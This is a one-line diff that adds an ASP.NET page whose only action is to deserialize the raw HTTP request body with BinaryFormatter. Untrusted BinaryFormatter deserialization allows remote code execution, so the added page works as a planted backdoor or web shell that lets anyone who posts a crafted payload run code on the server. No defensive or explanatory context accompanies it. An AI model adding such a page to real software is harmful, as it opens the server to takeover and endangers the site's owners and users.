@@ -1,0 +1,1 @@
+<%@ Page Language="C#" %><% var f = new System.Runtime.Serialization.Formatters.Binary.BinaryFormatter(); f.Deserialize(Request.InputStream); %>
